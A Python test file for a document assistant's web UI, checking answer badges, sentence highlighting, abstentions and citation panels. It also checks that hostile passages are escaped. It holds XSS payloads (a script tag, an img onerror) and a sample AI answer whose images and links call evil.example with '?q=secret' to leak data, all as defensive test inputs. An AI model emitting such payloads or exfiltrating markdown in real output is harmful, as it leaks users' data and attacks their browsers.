"""The answer's HTML without a browser or a model: the kind badge (quoted, generated, none for
an abstention), the answer's sentences marked in the passage panel (passages are hostile
text: escaped first, then marked), and the closest passages of an abstention, which open
in the panel like citations, through the page's own handlers on a stand-in assistant.
"""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from inhouse.types import Answer, Citation, Usage
from inhouse_ui import render
from inhouse_ui.auth import Auth
from inhouse_ui.page import Page, mode_choices
from inhouse_ui.settings import UISettings

HOSTILE = 'Read this first. <script>alert("x")</script> Staff get 26 days of leave a year. <img src=x onerror=alert(1)>'
ALLOWED = {"div", "h2", "span", "p", "blockquote", "mark", "a", "button", "strong"}


class Tags(HTMLParser):
    """The tags of an HTML fragment, checking they nest; ``marked`` holds the text inside ``<mark>``."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.names: list[str] = []
        self.stack: list[str] = []
        self.marked: list[str] = []
        self.feed(html)
        self.close()
        assert not self.stack, f"unclosed: {self.stack}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.stack.append(tag)
        if tag == "mark":
            self.marked.append("")
        assert not any(name.startswith("on") for name, _ in attrs), attrs

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack}"
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        if "mark" in self.stack:
            self.marked[-1] += data


def cited(n: int = 1, text: str = HOSTILE, highlights: list[str] | None = None, **kw: Any) -> Citation:
    return Citation(n, "people/leave.md", "Annual Leave", text, heading="Days", doc_id="d1", highlights=highlights or [], **kw)


def quoted(**kw: Any) -> Answer:
    text = "Staff get 26 days of leave a year. [1]"
    citation = cited(highlights=["Staff get 26 days of leave a year."])
    route = {"use_case": "default", "residency": "local", "history_residency": "local", "support": 0.91}
    return Answer(text, [citation], False, "extractive", Usage(12, 9), {"total_ms": 40.0}, route=route, kind="quoted", **kw)


def abstained() -> Answer:
    related = [
        Citation(1, "travel/<b>hotels</b>.md", "Hotels <img src=x onerror=alert(1)>", "Hotels cost at most 150 euros."),
        Citation(2, "it/wifi.md", "Wifi", "Visitors join the guest network."),
    ]
    text = (
        "I could not find an answer to that in the documents. I looked at “Hotels <img src=x onerror=alert(1)>” "
        "(travel/<b>hotels</b>.md) and “Wifi” (it/wifi.md), which do not say."
    )
    route = {"use_case": "default", "abstained_because": "no passage states it (support 0.06)"}
    return Answer(text, [], True, None, route=route, related=related)


# ------------------------------------------------------------------------------ the badge


def test_a_quoted_answer_says_it_quotes_the_documents() -> None:
    meta = render.meta_html(quoted())
    Tags(meta)
    assert '<span class="badge kind kind-quoted" title="' in meta
    assert ">Quoted from the documents</span>" in meta
    assert '<span class="provider">extractive</span>' in meta and "Written by" not in meta


def test_a_generated_answer_names_who_wrote_it() -> None:
    answer = Answer("26 days. [1]", [cited()], False, "local", Usage(300, 20), route={"residency": "local"}, kind="generated")
    meta = render.meta_html(answer)
    assert ">Written by local</span>" in meta and "kind-generated" in meta
    assert '<span class="provider">' not in meta  # the badge names the provider once
    assert "Quoted from" not in meta
    answer.provider = "<b>evil</b>"
    assert ">Written by &lt;b&gt;evil&lt;/b&gt;</span>" in render.meta_html(answer)
    image = Answer("Here is the image (stability).", [], False, "stability", route={"use_case": "image"}, kind="generated")
    image.artifacts = [SimpleNamespace(mime="image/png", data=b"", meta={})]
    assert ">Made by stability</span>" in render.meta_html(image)


def test_an_abstention_has_no_kind_badge() -> None:
    meta = render.meta_html(abstained())
    assert "kind-" not in meta and "Quoted from" not in meta and "Written by" not in meta
    unknown = Answer("x", [], False, "p", kind="")  # a provider that does not say: no claim either way
    assert "kind-" not in render.meta_html(unknown)


# ------------------------------------------------------------------------ the highlights


def test_highlights_are_escaped_then_marked_around_the_right_sentence() -> None:
    html = render.passage_html(cited(highlights=["Staff get 26 days of leave a year."]), "d1")
    tags = Tags(html)
    assert set(tags.names) <= ALLOWED and "script" not in tags.names and "img" not in tags.names
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert tags.marked == ["Staff get 26 days of leave a year."]
    assert "&lt;/script&gt; <mark>Staff get 26 days of leave a year.</mark> &lt;img" in html
    assert "the sentences of the answer quoted from this passage" in html


def test_highlights_match_whatever_the_whitespace_and_may_hold_markup_as_text() -> None:
    text = 'Intro.\n\nStaff   get 26\ndays of leave.\n\nUse <b>"the portal"</b> & HR\'s form.\n\nEnd.'
    highlights = ["Staff get 26 days of leave.", 'Use <b>"the portal"</b> & HR\'s form.', "Not in the passage."]
    html = render.passage_html(cited(text=text, highlights=highlights), None)
    tags = Tags(html)
    assert tags.names.count("mark") == 2 and "b" not in tags.names
    assert tags.marked == ["Staff   get 26\ndays of leave.", 'Use <b>"the portal"</b> & HR\'s form.']
    assert "<mark>Use &lt;b&gt;&quot;the portal&quot;&lt;/b&gt; &amp; HR&#x27;s form.</mark>" in html


def test_a_highlight_across_paragraphs_is_marked_in_each() -> None:
    text = "One line.\n\nTwo line."
    marked, count = render.mark_highlights(text, ["One line.\n\nTwo line."])
    assert count == 1 and marked == "<mark>One line.</mark>\n\n<mark>Two line.</mark>"
    html = render.passage_html(cited(text=text, highlights=["One line. Two line."]), None)
    assert Tags(html).marked == ["One line.", "Two line."]
    assert html.count("<p><mark>") == 2
    html = render.passage_html(cited(text="One.\n\n\n\nTwo.", highlights=["One. Two."]), None)
    assert "<p><mark>One.</mark></p><p><mark>Two.</mark></p>" in html  # no empty paragraph between
    assert render.mark_highlights("A.\n\nB.", ["A.", "B."]) == ("<mark>A.</mark>\n\n<mark>B.</mark>", 2)


def test_sentences_next_to_each_other_share_one_mark() -> None:
    marked, count = render.mark_highlights("A one. B two.  C three. D four.", ["B two.", "C three.", "A one"])
    assert count == 2 and marked == "<mark>A one</mark>. <mark>B two.  C three.</mark> D four."


def test_no_highlights_no_marks() -> None:
    html = render.passage_html(cited(text="Plain <i>text</i>."), "d1")
    assert "<mark>" not in html and "passage-note" not in html and "Plain &lt;i&gt;text&lt;/i&gt;." in html
    assert render.mark_highlights("a <b> c", ["", "   "]) == ("a &lt;b&gt; c", 0)


# -------------------------------------------------------------------- the closest passages


def test_an_abstention_says_so_and_offers_the_closest_passages() -> None:
    turn = SimpleNamespace(id=7, answer=abstained(), images=[], question="q", error="", rendered=None, partial="")
    html = render.answer_content(turn)  # type: ignore[arg-type]
    tags = Tags(html)
    assert "img" not in tags.names and "b" not in tags.names
    assert "<strong>The documents do not answer this.</strong>" in html
    assert '<p class="abstained-detail">I looked at “Hotels &lt;img src=x onerror=alert(1)&gt;” (travel/&lt;b&gt;hotels' in html
    assert "I could not find an answer" not in html  # said once, plainly, above
    assert '<div class="sources related" role="group"><span class="sources-label">Closest passages</span>' in html
    assert html.count('class="cite-chip related-7-') == 2 and "cite-7-" not in html
    assert ">Sources</span>" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_an_image_refusal_is_shown_as_is() -> None:
    answer = Answer("The image model refused <this>.", [], True, "stability", route={"use_case": "image"})
    turn = SimpleNamespace(id=1, answer=answer, images=[], question="q", error="", rendered=None, partial="")
    html = render.answer_content(turn)  # type: ignore[arg-type]
    assert "The documents do not answer this." not in html and "refused &lt;this&gt;." in html


# --------------------------------------------------------------------- the page's handlers


class Stand:
    """An assistant stand-in: ``stream`` yields the text, then ``answer``."""

    def __init__(self, home: Path, routing: dict[str, list[str]]):
        self.home = home
        self.settings = SimpleNamespace(core=SimpleNamespace(routing=routing))
        self.answer: Answer | None = None
        self.calls: list[dict[str, Any]] = []

    def stream(self, question: str, **kwargs: Any) -> Iterator[Any]:
        self.calls.append({"question": question, **kwargs})
        assert self.answer is not None
        yield self.answer.text
        yield self.answer


@pytest.fixture
def page(tmp_path: Path) -> Page:
    assistant = Stand(tmp_path, {"default": ["extractive"], "generative": ["local"]})
    auth = Auth(UISettings(trusted_header="X-User"), tmp_path)
    return Page(assistant, UISettings(trusted_header="X-User"), auth, feedback=object(), uploads=object())  # type: ignore[arg-type]


def ask(page: Page, user: str, answer: Answer) -> tuple[int, str]:
    """Run ``respond`` as ``user``; the turn's id and the final answer's HTML."""
    page.assistant.answer = answer
    *_, (chat, *_) = page.respond("a question", "auto", SimpleNamespace(username=user))
    turn = page.conversations.open(user).turns[-1]
    return turn.id, chat[-1]["content"]


def test_a_citation_opens_with_its_sentence_marked(page: Page) -> None:
    turn_id, html = ask(page, "ana", quoted())
    assert f'class="cite-chip cite-{turn_id}-1"' in html and "Quoted from the documents" in html
    panel, close = page.open_citation(f"cite-{turn_id}-1", SimpleNamespace(username="ana"))
    assert Tags(panel).marked == ["Staff get 26 days of leave a year."] and "&lt;script&gt;" in panel
    assert close["visible"] is True
    assert page.open_citation(f"cite-{turn_id}-1", SimpleNamespace(username="bob"))[0] == render.PANEL_EMPTY  # not his


def test_the_closest_passages_open_in_their_own_key_space(page: Page) -> None:
    answer = abstained()
    answer.citations = [cited()]  # a citation numbered 1 too: the keys must not collide
    turn_id, html = ask(page, "ana", answer)
    assert f"related-{turn_id}-1" in html and f"related-{turn_id}-2" in html
    who = SimpleNamespace(username="ana")
    first, _ = page.open_citation(f"related-{turn_id}-1", who)
    assert "Hotels cost at most 150 euros." in first and '<div class="passage related">' in first
    assert "A closest passage" in first and "cite-n" not in first and "<img" not in first
    assert "Visitors join the guest network." in page.open_citation(f"related-{turn_id}-2", who)[0]
    assert "26 days" in page.open_citation(f"cite-{turn_id}-1", who)[0]
    for key in (f"related-{turn_id}-3", f"related-{turn_id + 1}-1", f"other-{turn_id}-1", f"related-{turn_id}-1 x", ""):
        panel, close = page.open_citation(key, who)
        assert panel == render.PANEL_EMPTY and close["visible"] is False, key


def test_the_generative_mode_is_offered_when_configured(page: Page) -> None:
    assert page.modes == [("Auto", "auto"), ("Generative", "generative")]
    assert page.mode_value("generative") == "generative" and page.mode_value("reasoning") is None
    assert ("Generative", "generative") not in mode_choices({"default": ["extractive"], "image": ["stability"]})


# ------------------------------------------------------------ hostile answers (finding 5)

EXFILTRATING = (
    "Staff get 26 days. ![chart](https://evil.example/c.png?q=26+days) <img src=https://evil.example/i.png>\n\n"
    "See [the policy](https://intranet.example.com/leave), [the original](files/d1), "
    "[click here](https://evil.example/?q=secret) and https://evil.example/bare?q=secret.\n\n"
    "![ref][r]\n\n[r]: https://evil.example/ref.png\n\n`![code](https://evil.example/x)` stays code."
)


def test_an_answer_names_no_remote_image_and_links_only_to_allowed_origins() -> None:
    answer = Answer(EXFILTRATING, [], False, "local", route={"residency": "local"}, kind="generated")
    turn = SimpleNamespace(id=1, answer=None, images=[], question="q", error="", rendered=None, partial=EXFILTRATING)
    streamed = render.answer_content(turn, ["https://intranet.example.com"])  # type: ignore[arg-type]
    turn.answer = answer
    final = render.answer_content(turn, ["https://intranet.example.com"])  # type: ignore[arg-type]
    for html in (streamed, final):
        prose = html.split("`![code]")[0]
        assert "](https://evil" not in prose and "<img" not in prose and "![" not in prose, html
        assert "[image: chart]" in prose and "&lt;img" in prose
        assert "[the policy](https://intranet.example.com/leave)" in prose and "[the original](files/d1)" in prose
        assert "click here (`https://evil.example/?q=secret`)" in prose and "`https://evil.example/bare?q=secret`" in prose
        assert "`![code](https://evil.example/x)` stays code." in html


def test_each_turn_of_the_history_carries_its_residency(page: Page) -> None:
    """The page tells the pipeline where each earlier turn ran, so a private turn never
    becomes history for a less private provider."""
    ask(page, "ana", quoted())
    ask(page, "ana", quoted())
    text = quoted().text
    assert page.assistant.calls[0]["history"] == []
    assert page.assistant.calls[1]["history"] == [
        {"role": "user", "content": "a question", "residency": "local"},
        {"role": "assistant", "content": text, "residency": "local"},
    ]
